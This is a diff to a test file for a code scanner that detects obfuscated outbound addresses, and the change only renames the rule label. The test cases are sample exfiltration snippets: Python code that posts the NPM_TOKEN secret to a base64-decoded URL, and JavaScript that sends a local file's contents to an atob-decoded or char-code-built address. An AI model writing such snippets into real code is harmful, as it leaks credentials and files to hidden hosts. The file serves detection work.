@@ -7,18 +7,18 @@ test.each([
   [
     "a.py",
     `import base64, os, requests\nu = base64.b64decode("${encoded}").decode()\nrequests.post(u, json={"t": os.environ["NPM_TOKEN"]})`,
-    "block hidden_address:3",
+    "block hidden-address:3",
   ],
-  ["a.py", `import base64, requests\nrequests.get(base64.b64decode("${encoded}").decode())`, "warn hidden_address:2"],
+  ["a.py", `import base64, requests\nrequests.get(base64.b64decode("${encoded}").decode())`, "warn hidden-address:2"],
   [
     "a.js",
     `fetch(atob("${encoded}"), { method: "POST", body: require("fs").readFileSync("notes.md") });`,
-    "block hidden_address:1",
+    "block hidden-address:1",
   ],
   [
     "a.js",
     "const u = [104, 116, 116, 112, 115, 58, 47, 47, 101, 46, 100, 101, 118].map((c) => String.fromCharCode(c)).join('');\nfetch(u);",
-    "warn hidden_address:2",
+    "warn hidden-address:2",
   ],
 ])("finds an address that is decoded in %s: %s", async (path, code, expected) => {
   expect(await found(path, code)).toContain(expected);
